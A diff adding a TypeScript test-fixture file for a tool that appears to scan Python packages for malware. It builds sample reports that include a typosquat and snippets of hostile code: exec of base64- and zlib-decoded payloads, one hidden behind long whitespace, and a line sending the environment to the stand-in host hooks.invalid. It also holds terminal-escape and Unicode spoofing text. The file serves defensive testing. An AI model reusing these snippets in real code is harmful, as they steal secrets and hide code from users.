@@ -1,0 +1,153 @@
+import type { Run } from '../../src/core/run.js';
+import { untrusted } from '../../src/core/untrusted.js';
+import { decision, finding, gap, run } from './build.js';
+
+const flask = ['flask', 'werkzeug', 'jinja2', 'itsdangerous', 'click', 'blinker', 'markupsafe'].map((name, index) =>
+  decision(name, { version: index === 0 ? '3.0.0' : `2.${index}.1`, cached: index > 3 }),
+);
+
+const present = flask.map(({ report: { artifact } }) => ({ name: untrusted(artifact.name), version: artifact.version }));
+
+const typosquat = decision('reqeusts', {
+  verdict: 'blocked',
+  score: 0.9,
+  risk: 74,
+  reasons: ["Typosquat of 'requests' (distance: 2)"],
+  findings: [
+    finding({
+      rule: 'typosquat',
+      message: "Typosquat of 'requests' (distance: 2)",
+      why: 'A name one slip of the finger away from a popular one is how most malicious packages reach people',
+      advice: "did you mean 'requests'? Correct the name and run the command again.",
+    }),
+    finding({ rule: 'process-start', severity: 'medium', file: 'setup.py', message: 'contains: subprocess.Popen, base64.b64decode' }),
+    finding({ rule: 'imports', severity: 'info', confidence: 'low', file: 'setup.py', line: 1, message: 'imports os' }),
+  ],
+});
+
+const letIn = decision('reqeusts', {
+  verdict: 'blocked',
+  action: 'alert',
+  score: 0.9,
+  reasons: [...typosquat.reasons, 'let in by --allow-blocked'],
+  findings: typosquat.report.findings,
+});
+
+const decodedExec = decision('colourful', {
+  version: '0.4.6',
+  verdict: 'blocked',
+  score: 0.9,
+  reasons: ['exec runs what base64.b64decode decoded', 'sends the environment to hooks.invalid', 'exec runs what zlib.decompress decoded'],
+  shownAs: './dist/colourful-0.4.6.tar.gz',
+  findings: [
+    finding({
+      file: 'setup.py',
+      line: 14,
+      snippet: '    exec(base64.b64decode(PAYLOAD))',
+      trace: [
+        { what: 'base64.b64decode decodes PAYLOAD', line: 9 },
+        { what: 'exec runs the result', line: 14 },
+      ],
+      message: 'exec runs what base64.b64decode decoded',
+      why: 'Packing code and handing it straight to exec() hides it from readers and from text search',
+    }),
+    finding({
+      rule: 'environment-to-network',
+      severity: 'high',
+      confidence: 'medium',
+      file: 'colourful/__init__.py',
+      line: 203,
+      snippet: `urllib.request.urlopen("https://hooks.invalid/collect?session=" + token, data=json.dumps(dict(os.environ)).encode())`,
+      message: 'sends the environment to hooks.invalid',
+      why: 'Environment variables hold passwords and access keys',
+    }),
+    finding({
+      file: 'colourful/_compat.py',
+      line: 8,
+      snippet: `x = 1;${' '.repeat(200)}exec(zlib.decompress(BLOB))`,
+      message: 'exec runs what zlib.decompress decoded',
+      why: 'Packing code and handing it straight to exec() hides it from readers and from text search',
+    }),
+    finding({ rule: 'no-homepage', severity: 'low', message: 'no homepage and no author' }),
+    finding({ rule: 'imports', severity: 'info', file: 'setup.py', line: 2, snippet: 'import os, base64', message: 'imports os' }),
+  ],
+});
+
+const young = decision('attrs-extra', {
+  verdict: 'warned',
+  score: 0.5,
+  reasons: ['project is 2 days old'],
+  findings: [finding({ rule: 'young-project', severity: 'medium', message: 'project is 2 days old', why: 'Most malicious projects are found within a week' })],
+});
+
+const unreadable = decision('packed', {
+  verdict: 'blocked',
+  score: 0.05,
+  reasons: ['could not read packed/__init__.py, and its code would run unread: nested more than 64 levels deep'],
+  gaps: [
+    gap('runs', 'packed/__init__.py', 'nested more than 64 levels deep'),
+    gap('data', 'packed/_speedups.so', 'native code, not read'),
+    gap('service', 'known malicious packages', 'api.osv.dev did not answer within 5 s'),
+  ],
+});
+
+const partlyRead = decision('partly', {
+  verdict: 'warned',
+  score: 0.05,
+  reasons: ['could not read partly/big.py: larger than 10 MB'],
+  gaps: [gap('latent', 'partly/big.py', 'larger than 10 MB'), gap('service', 'known malicious packages', 'api.osv.dev did not answer within 5 s')],
+});
+
+const hostileText = '\x1b[2K\x1b[1A\x1b]0;owned\x07\r\nAnalyzing evil (1.0) ✓ Safe\u202e gnihton\u200b\u{e0041}\ufe0f\ud800 \u05d0\u05d1';
+const hostile = decision('hostile', {
+  version: `1.0+\x1b[32m✓ Safe\r\n${'9'.repeat(60)}`,
+  verdict: 'blocked',
+  score: 0.9,
+  reasons: [hostileText],
+  shownAs: `./${hostileText}.whl`,
+  findings: [
+    finding({ file: hostileText, line: 3, snippet: hostileText, message: `${' '.repeat(70)}11 packages safe · 0 warnings · 0 blocked`, advice: hostileText }),
+    finding({ rule: 'other', file: 'a\u0338\u0336\u0335\u0334\u0333.py', line: 9, snippet: '漢字'.repeat(60), message: 'z'.repeat(500), why: hostileText, trace: [{ what: hostileText, line: 1 }] }),
+  ],
+  gaps: [gap('runs', hostileText, hostileText)],
+});
+
+/** Finished runs that between them use every word of a report. The name is the golden file's. */
+export const sampleRuns: Readonly<Record<string, Run>> = {
+  'seven-safe': run({ decisions: flask, installed: true, notices: [{ level: 'info', text: untrusted('Using .venv (Python 3.12.4)') }] }),
+  'typosquat-among-twelve': run({
+    decisions: [typosquat, ...flask, ...['idna', 'certifi', 'urllib3', 'six'].map((name) => decision(name))],
+  }),
+  'one-warning-in-25': run({
+    command: 'audit',
+    decisions: [young, ...Array.from({ length: 24 }, (_, index) => decision(`package-${index + 1}`))],
+  }),
+  'code-block': run({ command: 'scan', decisions: [decodedExec, decision('six', { shownAs: './dist/six-1.0.0-py3-none-any.whl' })] }),
+  'not-fully-read': run({ decisions: [unreadable, partlyRead, decision('torch', { gaps: [gap('data', 'torch/lib/libtorch.so', 'native code, not read')] })] }),
+  'hostile-text': run({
+    command: 'scan',
+    decisions: [hostile],
+    problems: [{ what: untrusted(hostileText), why: untrusted(hostileText) }],
+    notices: [{ level: 'warning', text: untrusted(hostileText) }],
+    satisfied: [{ name: untrusted(hostileText), version: untrusted(hostileText) }],
+  }),
+  'let-in-anyway': run({ decisions: [letIn, ...flask.slice(0, 2)], installed: true }),
+  'dry-run': run({ decisions: flask.slice(0, 1), dryRun: true, satisfied: present.slice(1) }),
+  'nothing-to-do': run({ satisfied: present }),
+  'inputs-that-are-none': run({
+    command: 'scan',
+    decisions: [decision('six', { shownAs: './six-1.0.0-py3-none-any.whl' })],
+    problems: [
+      { what: untrusted('./notes.txt'), why: untrusted('not a wheel, an sdist, a zip or a folder') },
+      { what: untrusted('./missing.whl'), why: untrusted('no such file') },
+    ],
+    notices: [{ level: 'warning', text: untrusted('index https://index.invalid/simple did not answer within 2 s; going on with the other one') }],
+  }),
+  'own-lists': run({
+    decisions: [
+      decision('blinker', { reasons: ['on the allowlist; without it: blocked'] }),
+      decision('leftpad', { verdict: 'blocked', reasons: ['on the denylist'] }),
+    ],
+  }),
+  quarantined: run({ decisions: [{ ...typosquat, action: 'quarantine', cleared: null }, ...flask.slice(0, 1)], installed: true }),
+};
